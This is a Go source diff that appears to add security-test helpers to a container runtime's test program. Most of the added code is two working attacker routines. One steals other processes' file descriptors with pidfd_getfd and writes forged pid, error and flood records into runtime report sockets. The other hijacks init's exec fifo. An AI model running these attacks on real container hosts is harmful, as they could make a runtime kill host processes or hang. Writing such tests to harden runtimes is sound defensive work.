@@ -90,10 +90,10 @@ func inspect(pid int, comm, marker string) int {
 	dir := "/proc/" + strconv.Itoa(pid) + "/fd"
 	ents, err := os.ReadDir(dir)
 	if err != nil {
-		fmt.Printf("runtime %d %s ptrace=%s fds=%s\n", pid, comm, ptrace, errName(unwrap(err)))
+		fmt.Printf("runtime %d %s ptrace=%s fds=%s seccomp=%s\n", pid, comm, ptrace, errName(unwrap(err)), seccompMode(pid))
 		return 0
 	}
-	fmt.Printf("runtime %d %s ptrace=%s fds=%d\n", pid, comm, ptrace, len(ents))
+	fmt.Printf("runtime %d %s ptrace=%s fds=%d seccomp=%s\n", pid, comm, ptrace, len(ents), seccompMode(pid))
 	host := 0
 	for _, e := range ents {
 		target, _ := os.Readlink(dir + "/" + e.Name())
@@ -201,4 +201,145 @@ func nosys() error {
 	_, _, e2 := unix.Syscall(unix.SYS_CLONE3, 0, 0, 0)
 	fmt.Printf("openat2: %s clone3: %s\n", errName(e1), errName(e2))
 	return nil
+}
+
+// seccompMode is the Seccomp field of /proc/PID/status: 0 none, 2 filter.
+func seccompMode(pid int) string {
+	b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/status")
+	if err != nil {
+		return "?"
+	}
+	for _, l := range strings.Split(string(b), "\n") {
+		if v, ok := strings.CutPrefix(l, "Seccomp:"); ok {
+			return strings.TrimSpace(v)
+		}
+	}
+	return "?"
+}
+
+// forge is the attacker of a stolen report socket (security review of
+// issue 11): as stopgrab, it stops every new process of its pid namespace
+// that is not USERPROG; from each it takes every fd with pidfd_getfd
+// (CAP_SYS_PTRACE over the process) and, into each SOCK_SEQPACKET socket
+// among them, writes what a runtime's child might report: "my pid is
+// VICTIM" (a host process), an error, and a flood of records. A runtime
+// that believed any of it would kill VICTIM, write it into a pid file, or
+// never finish. It prints one line a socket and a summary:
+//
+//	stole PID FD
+//	forged N sockets
+func forge(args []string) error {
+	if len(args) != 3 {
+		return fmt.Errorf("forge: want STOPFILE VICTIM USERPROG")
+	}
+	stop, userProg := args[0], args[2]
+	victim, err := strconv.Atoi(args[1])
+	if err != nil {
+		return fmt.Errorf("forge: bad victim %q", args[1])
+	}
+	rec := func(kind, v1, v2, v3 uint32) []byte {
+		b := make([]byte, 16)
+		for i, v := range []uint32{kind, v1, v2, v3} {
+			b[4*i], b[4*i+1], b[4*i+2], b[4*i+3] = byte(v), byte(v>>8), byte(v>>16), byte(v>>24)
+		}
+		return b
+	}
+	seen := map[int]bool{os.Getpid(): true}
+	forged := 0
+	last := lastPid()
+	check := time.Now()
+	for {
+		if time.Since(check) > 20*time.Millisecond {
+			if _, err := os.Stat(stop); err == nil {
+				break
+			}
+			if l := lastPid(); l > last+8 {
+				last = l - 1
+			}
+			check = time.Now()
+		}
+		for pid := last + 1; pid <= last+4; pid++ {
+			if seen[pid] {
+				continue
+			}
+			if err := unix.Kill(pid, unix.SIGSTOP); err == unix.ESRCH {
+				continue
+			}
+			seen[pid] = true
+			if pid > last {
+				last = pid
+			}
+			b, _ := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/comm")
+			if strings.TrimSpace(string(b)) == userProg {
+				unix.Kill(pid, unix.SIGCONT)
+				continue
+			}
+			pfd, err := unix.PidfdOpen(pid, 0)
+			if err != nil {
+				unix.Kill(pid, unix.SIGCONT)
+				continue
+			}
+			for fd := 0; fd < 32; fd++ {
+				nfd, err := unix.PidfdGetfd(pfd, fd, 0)
+				if err != nil {
+					continue
+				}
+				if typ, err := unix.GetsockoptInt(nfd, unix.SOL_SOCKET, unix.SO_TYPE); err == nil && typ == unix.SOCK_SEQPACKET {
+					fmt.Printf("stole %d %d\n", pid, fd)
+					forged++
+					v := uint32(int32(victim))
+					unix.Write(nfd, rec(1, v, 0, 0)) // a pid
+					unix.Write(nfd, rec(2, 5, 1, 0)) // an error
+					for i := 0; i < 64; i++ {
+						unix.Write(nfd, rec(5, 99, 0, 0))
+					}
+				}
+				unix.Close(nfd)
+			}
+			unix.Close(pfd)
+			unix.Kill(pid, unix.SIGCONT)
+		}
+	}
+	fmt.Printf("forged %d sockets\n", forged)
+	return nil
+}
+
+// fifo is the attacker of a created container's exec fifo: it takes
+// init's O_PATH fd of it (pidfd_getfd) and opens the fifo itself. MODE
+// hold keeps it open (a start that waited for its EOF would never end);
+// forge writes what init writes when a startContainer hook failed, with
+// text of its own, and keeps it open. It prints "holding" once it holds.
+func fifo(args []string) error {
+	if len(args) != 1 {
+		return fmt.Errorf("fifo: want hold|forge")
+	}
+	ents, err := os.ReadDir("/proc/1/fd")
+	if err != nil {
+		return err
+	}
+	pfd, err := unix.PidfdOpen(1, 0)
+	if err != nil {
+		return fmt.Errorf("pidfd_open: %w", err)
+	}
+	for _, e := range ents {
+		t, _ := os.Readlink("/proc/1/fd/" + e.Name())
+		if !strings.HasSuffix(t, "exec.fifo") {
+			continue
+		}
+		n, _ := strconv.Atoi(e.Name())
+		fd, err := unix.PidfdGetfd(pfd, n, 0)
+		if err != nil {
+			return fmt.Errorf("pidfd_getfd: %w", err)
+		}
+		w, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_RDWR, 0)
+		if err != nil {
+			return fmt.Errorf("reopen the fifo: %w", err)
+		}
+		if args[0] == "forge" {
+			unix.Write(w, []byte("1error running startContainer hook #0: FORGED BY THE CONTAINER"))
+		}
+		fmt.Println("holding")
+		time.Sleep(time.Hour)
+	}
+	return fmt.Errorf("no exec fifo among init's fds")
 }
